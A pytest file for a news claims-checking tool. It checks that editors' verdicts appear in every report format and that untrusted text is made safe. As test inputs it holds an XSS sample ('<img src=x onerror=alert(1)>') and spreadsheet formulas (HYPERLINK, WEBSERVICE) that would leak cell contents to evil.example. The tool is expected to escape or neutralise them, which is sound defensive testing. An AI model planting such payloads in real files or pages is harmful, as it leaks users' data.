"""Editors' decisions in every report format, and spreadsheet formulas from articles kept inert."""

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from claims.checker import check_text
from claims.cli import app
from claims.report.csv import cell, render_csv
from claims.report.html import render_html
from claims.report.markdown import render_markdown
from claims.store.db import EditorDecision
from claims.types import InputText

from .conftest import EXAMPLES
from .test_report_formats import _Page

FOUNDING = str(EXAMPLES / "ar-russia-dprk-treaty.txt")
NOTE = "TASS and KCNA report the exchange of ratification documents"


@pytest.fixture
def decided_db(tmp_path):
    db = f"sqlite:///{tmp_path / 'claims.db'}"
    runner = CliRunner()
    assert runner.invoke(app, ["db", "init", "--db", db]).exit_code == 0
    result = runner.invoke(
        app,
        [
            "decide",
            f"{FOUNDING}#c2",
            "--verdict",
            "corroborated",
            "--note",
            NOTE,
            "--editor",
            "day desk",
            "--db",
            db,
        ],
    )
    assert result.exit_code == 0, result.output
    return db


def _check(db: str, fmt: str, *extra: str) -> str:
    result = CliRunner().invoke(app, ["check", FOUNDING, "--format", fmt, "--db", db, *extra])
    assert result.exit_code == 0, result.output
    return result.stdout


def test_csv_has_the_editors_decision_in_its_own_columns(decided_db):
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(_check(decided_db, "csv")))}
    c2 = rows.pop("c2")
    assert (c2["verdict"], c2["editor_verdict"], c2["editor_note"], c2["editor"]) == (
        "single-source",
        "corroborated",
        NOTE,
        "day desk",
    )
    assert c2["decided_at"].startswith("20")
    assert {(r["editor_verdict"], r["editor_note"], r["editor"], r["decided_at"]) for r in rows.values()} == {
        ("", "", "", "")
    }


def test_markdown_shows_the_editors_decision_beside_the_verdict(decided_db):
    rows = [line for line in _check(decided_db, "markdown").splitlines() if line.startswith("| ⚠️ |")]
    decided = [line for line in rows if "editor:" in line]
    assert len(decided) == 1
    assert f"| single-source · **editor: corroborated** — {NOTE} |" in decided[0]
    assert "| 3 |" in decided[0]  # claim c2 is on line 3


def test_html_shows_the_editors_decision_on_the_page_and_in_its_data(decided_db):
    out = _check(decided_db, "html")
    page = _Page()
    page.feed(out)
    spans = [attrs for tag, attrs in page.tags if tag == "span" and "decision" in attrs.get("class", "")]
    assert [s["class"] for s in spans] == ["decision corroborated"]
    assert f"editor: corroborated — {NOTE}" in "".join(page.text)
    data = json.loads(page.scripts[0])
    decided = {c["id"]: c["decision"] for c in data["claims"] if c["decision"]}
    assert list(decided) == ["c2"] and decided["c2"]["note"] == NOTE


def test_jsonl_has_the_same_decision_field_as_json(decided_db):
    lines = [json.loads(line) for line in _check(decided_db, "jsonl").splitlines()]
    report = json.loads(_check(decided_db, "json"))
    assert [line["decision"] for line in lines] == [c["decision"] for c in report["claims"]]
    assert lines[1]["decision"]["verdict"] == "corroborated"


@pytest.mark.parametrize(("fmt", "suffix"), [("json", ".json"), ("csv", ".csv"), ("markdown", ".md")])
def test_output_dir_reports_carry_the_decisions_too(decided_db, tmp_path, fmt, suffix):
    out = tmp_path / "reports"
    _check(decided_db, fmt, "--output-dir", str(out))
    written = (out / ("ar-russia-dprk-treaty.txt" + suffix)).read_text(encoding="utf-8")
    assert NOTE in written


def test_decision_text_is_escaped_in_html_and_markdown(registry):
    report = check_text(
        InputText("Officials said troops crossed the border on Tuesday.\n", "a.txt", "utf-8", "txt"), registry
    )
    note = "<img src=x onerror=alert(1)> [see](https://evil.example)"
    decision = EditorDecision(1, "h", "disputed", note, None, None, "2026-12-03T12:00:00+00:00")
    decisions = {report.claims[0].claim.id: decision}
    page = _Page()
    page.feed(render_html(report, registry, decisions))
    assert "img" not in [tag for tag, _ in page.tags]
    assert note in "".join(page.text)
    md = render_markdown(report, registry, decisions)
    assert "\\<img" in md and "\\[see\\]" in md


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    '+WEBSERVICE("https://evil.example/?"&A1)',
    "-1+1+SUM(A1:A9)",
    "@SUM(A1:A9)",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_neutralises_formulas_from_articles(formula, registry):
    text = f"{formula} قال المتحدث إن القوات وصلت إلى الحدود.\n"
    report = check_text(InputText(text, formula + ".txt", "utf-8", "txt"), registry)
    assert report.claims, "the line must give a claim"
    rows = list(csv.DictReader(io.StringIO(render_csv([report], registry))))
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@")), (column, value)
    assert rows[0]["path"] == "'" + formula + ".txt"
    # the quote is the only change: the text is still there in full
    assert [r["text"] for r in rows] == ["'" + c.claim.span.text for c in report.claims]


@pytest.mark.parametrize(
    ("value", "safe"),
    [("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("=1+1", "'=1+1"), ("a=1", "a=1"), (-3, -3), (12, 12)],
)
def test_csv_cell(value, safe):
    assert cell(value) == safe


def test_csv_leaves_numbers_and_ordinary_text_alone(registry):
    text = "قال المتحدث إن القوات وصلت إلى الحدود.\n"
    report = check_text(InputText(text, "a.txt", "utf-8", "txt"), registry)
    row = next(csv.DictReader(io.StringIO(render_csv([report], registry))))
    assert (row["path"], row["line"], row["start"], row["text"]) == ("a.txt", "1", "0", text.strip())
